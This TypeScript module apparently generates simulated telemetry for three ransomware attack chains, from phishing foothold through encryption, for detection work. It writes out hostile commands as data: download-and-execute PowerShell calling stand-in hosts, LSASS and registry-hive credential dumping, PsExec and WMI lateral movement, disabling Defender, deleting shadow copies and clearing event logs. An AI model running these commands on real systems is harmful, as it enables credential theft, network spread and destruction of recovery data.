/** Ransomware end to end: a document, a foothold, credentials, spread, recovery destroyed, files. */
import type { Host } from '../place.ts';
import { CMD, EXPLORER, POWERSHELL, SERVICES, SYSTEM32, type Chain, type Stage } from './stage.ts';

const TECHNIQUES: readonly string[] = [
  'T1566.001',
  'T1059.001',
  'T1053.005',
  'T1003.001',
  'T1021.002',
  'T1562.001',
  'T1490',
  'T1486',
];

type Step = (stage: Stage, host: Host, user: string) => void;

interface Parts {
  readonly variant: string;
  readonly foothold: Step;
  readonly credentials: Step;
  readonly spread: (stage: Stage, from: Host, to: Host, user: string) => void;
  readonly recovery: Step;
  readonly extension: string;
}

function ransomware(parts: Parts): Chain {
  return {
    kind: 'ransomware',
    variant: parts.variant,
    techniques: TECHNIQUES,
    places: ['hospital', 'practice'],
    hour: 10,
    play: (stage) => {
      const first = stage.workstation();
      const victim = stage.person('clerk');
      const user = stage.user(victim);
      parts.foothold(stage, first, user);
      stage.wait(600, 2_400);
      discover(stage, first, user);
      stage.wait(900, 3_600);
      parts.credentials(stage, first, user);
      // The work of the night: the stolen administrator everywhere.
      stage.wait(20_000, 40_000);
      const admin = stage.user(stage.person('admin'));
      const targets = [stage.server('dc'), stage.server('file')];
      for (let count = 0; count < 4; count += 1) targets.push(stage.workstation());
      for (const target of new Set(targets)) {
        parts.spread(stage, first, target, admin);
        disarm(stage, target, admin);
        parts.recovery(stage, target, admin);
        encrypt(stage, target, admin, parts.extension);
      }
    },
  };
}

function macro(stage: Stage, host: Host, user: string): void {
  const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
  const document = 'C:\\Users\\Public\\Downloads\\Invoice_2026-03.docm';
  stage.windows.process(host, stage.at, {
    image: word,
    command: `"${word}" /n "${document}" /o ""`,
    parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    user,
  });
  stage.wait(5, 20);
  const script =
    "$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');" +
    "IEX $c.DownloadString('http://203.0.113.77/a/load.txt')";
  const encoded = `powershell.exe -nop -w hidden -enc ${stage.encoded(script)}`;
  stage.powershell(host, user, encoded, script, word);
  stage.windows.network(host, stage.at, POWERSHELL, user, '203.0.113.77', 80);
  stage.command(
    host,
    user,
    'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Update" /tr ' +
      '"rundll32.exe C:\\Users\\Public\\od.dll,Start" /f',
    POWERSHELL,
  );
}

function diskImage(stage: Stage, host: Host, user: string): void {
  stage.windows.file(host, stage.at, EXPLORER, user, 'C:\\Users\\Public\\Downloads\\Scan_4711.iso');
  stage.wait(10, 40);
  stage.command(host, user, 'rundll32.exe D:\\docs.dll,DllRegisterServer', EXPLORER);
  stage.windows.network(
    host,
    stage.at,
    `${SYSTEM32}\\rundll32.exe`,
    user,
    stage.address('far'),
    443,
  );
  stage.wait(60, 200);
  stage.windows.registry(
    host,
    stage.at,
    `${SYSTEM32}\\rundll32.exe`,
    user,
    'HKU\\S-1-5-21-1-2-3-1105\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
    'rundll32.exe C:\\ProgramData\\upd\\docs.dll,Start',
  );
}

function fakeUpdate(stage: Stage, host: Host, user: string): void {
  const wscript = `${SYSTEM32}\\wscript.exe`;
  const script = 'C:\\Users\\Public\\Downloads\\Chrome.Update.js';
  stage.windows.process(host, stage.at, {
    image: wscript,
    command: `"${wscript}" "${script}"`,
    parent: EXPLORER,
    user,
  });
  stage.wait(2, 10);
  const load = 'iwr -UseBasicParsing https://cdn-update.invalid/r | iex; Start-Sleep 5';
  stage.powershell(host, user, `powershell -ep bypass -c "${load}"`, load, wscript);
  stage.command(
    host,
    user,
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /t REG_SZ ' +
      '/d "C:\\Users\\Public\\sync\\client32.exe" /f',
  );
}

function discover(stage: Stage, host: Host, user: string): void {
  const all = [
    'whoami /all',
    'nltest /domain_trusts /all_trusts',
    'net group "Domain Admins" /domain',
    'net view /all /domain',
    'ipconfig /all',
    'systeminfo',
    'nltest /dclist:',
    'net localgroup administrators',
  ];
  for (const command of all) {
    if (stage.random.chance(0.8)) stage.command(host, user, command);
  }
}

function dumpWithComsvcs(stage: Stage, host: Host, user: string): void {
  const dump = 'C:\\Windows\\Temp\\d.bin';
  stage.command(
    host,
    user,
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 ${dump} full`,
    POWERSHELL,
    true,
  );
  stage.windows.sysmon(host, stage.at, 10, {
    SourceImage: `${SYSTEM32}\\rundll32.exe`,
    TargetImage: `${SYSTEM32}\\lsass.exe`,
    GrantedAccess: '0x1fffff',
    CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.dll+f1d',
    SourceUser: user,
    TargetUser: 'NT AUTHORITY\\SYSTEM',
  });
}

function dumpWithProcdump(stage: Stage, host: Host, user: string): void {
  stage.command(
    host,
    user,
    'C:\\PerfLogs\\p64.exe -accepteula -ma lsass.exe C:\\PerfLogs\\l.dmp',
    CMD,
    true,
  );
}

function saveHives(stage: Stage, host: Host, user: string): void {
  for (const hive of ['sam', 'system', 'security']) {
    stage.command(host, user, `reg save hklm\\${hive} C:\\Windows\\Temp\\${hive}.h`, CMD, true);
  }
}

function psexec(stage: Stage, from: Host, to: Host, user: string): void {
  stage.command(
    from,
    user,
    `C:\\PerfLogs\\PsExec64.exe \\\\${to.name} -accepteula -s -d -c C:\\PerfLogs\\run.bat`,
    CMD,
    true,
  );
  stage.windows.logon(to, stage.at, user.split('\\')[1] ?? user, 3, from.address);
  stage.windows.serviceInstalled(to, stage.at + 900, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
  stage.wait(1, 5);
  stage.windows.process(to, stage.at, {
    image: CMD,
    command: 'cmd.exe /c C:\\Windows\\run.bat',
    parent: 'C:\\Windows\\PSEXESVC.exe',
    user: 'NT AUTHORITY\\SYSTEM',
    high: true,
  });
}

function wmi(stage: Stage, from: Host, to: Host, user: string): void {
  stage.command(
    from,
    user,
    `wmic /node:${to.name} process call create "cmd.exe /c \\\\${from.name}\\c$\\PerfLogs\\r.bat"`,
    CMD,
    true,
  );
  stage.windows.logon(to, stage.at, user.split('\\')[1] ?? user, 3, from.address);
  stage.windows.process(to, stage.at + 700, {
    image: CMD,
    command: `cmd.exe /c \\\\${from.name}\\c$\\PerfLogs\\r.bat`,
    parent: `${SYSTEM32}\\wbem\\WmiPrvSE.exe`,
    user,
    high: true,
  });
  stage.wait(2, 10);
}

function smbService(stage: Stage, from: Host, to: Host, user: string): void {
  stage.windows.logon(to, stage.at, user.split('\\')[1] ?? user, 3, from.address);
  const name = stage.random.hex(8);
  const run = `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand ${stage.encoded('IEX 1')}`;
  stage.windows.serviceInstalled(to, stage.at + 500, name, run);
  stage.wait(1, 3);
  stage.windows.process(to, stage.at, {
    image: POWERSHELL,
    command: `powershell.exe -nop -w hidden -encodedcommand ${stage.encoded('IEX 1')}`,
    parent: SERVICES,
    user: 'NT AUTHORITY\\SYSTEM',
    high: true,
  });
}

function disarm(stage: Stage, host: Host, user: string): void {
  const script = 'Set-MpPreference -DisableRealtimeMonitoring $true';
  stage.powershell(host, user, `powershell -c "${script}"`, script, CMD);
  const defender = 'Microsoft-Windows-Windows Defender';
  stage.windows.event(host, stage.at, `${defender}/Operational`, defender, 5001, {
    'Product Name': 'Microsoft Defender Antivirus',
    'Product Version': '4.18.24090.11',
  });
  for (const service of ['VeeamBackupSvc', 'SQLWriter', 'MSExchangeIS']) {
    stage.command(host, user, `net stop ${service} /y`, CMD, true);
  }
}

function shadows(stage: Stage, host: Host, user: string): void {
  stage.command(host, user, 'vssadmin.exe delete shadows /all /quiet', CMD, true);
  stage.command(host, user, 'bcdedit /set {default} recoveryenabled no', CMD, true);
  stage.command(host, user, 'wevtutil cl Security', CMD, true);
  stage.windows.event(host, stage.at, 'Security', 'Microsoft-Windows-Eventlog', 1102, {
    SubjectUserName: user.split('\\')[1] ?? user,
    SubjectDomainName: stage.place.domain,
  });
}

function shadowsByWmi(stage: Stage, host: Host, user: string): void {
  stage.command(host, user, 'wmic shadowcopy delete /nointeractive', CMD, true);
  stage.command(host, user, 'wbadmin delete catalog -quiet', CMD, true);
}

function shadowsByPowershell(stage: Stage, host: Host, user: string): void {
  const script = 'Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}';
  stage.powershell(host, user, `powershell.exe -c "${script}"`, script, CMD);
  stage.command(
    host,
    user,
    'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB',
    CMD,
    true,
  );
}

function encrypt(stage: Stage, host: Host, user: string, extension: string): void {
  const image = 'C:\\PerfLogs\\svc.exe';
  stage.windows.process(host, stage.at, { image, command: image, parent: CMD, user, high: true });
  for (let count = 0; count < 60; count += 1) {
    const folder = `D:\\Shares\\Dept${count % 6}`;
    stage.windows.file(host, stage.at, image, user, `${folder}\\file${count}.docx.${extension}`);
    if (count % 12 === 0)
      stage.windows.file(host, stage.at, image, user, `${folder}\\HOW_TO_RECOVER_FILES.txt`);
    stage.at += stage.random.between(20, 400);
  }
  stage.wait(20, 120);
}

export const RANSOMWARE: readonly Chain[] = [
  ransomware({
    variant: 'macro, comsvcs, PsExec, vssadmin',
    foothold: macro,
    credentials: dumpWithComsvcs,
    spread: psexec,
    recovery: shadows,
    extension: 'locked',
  }),
  ransomware({
    variant: 'disk image, procdump, WMI, wbadmin',
    foothold: diskImage,
    credentials: dumpWithProcdump,
    spread: wmi,
    recovery: shadowsByWmi,
    extension: 'k3x9',
  }),
  ransomware({
    variant: 'fake update, hives, service, PowerShell',
    foothold: fakeUpdate,
    credentials: saveHives,
    spread: smbService,
    recovery: shadowsByPowershell,
    extension: 'crypt',
  }),
];
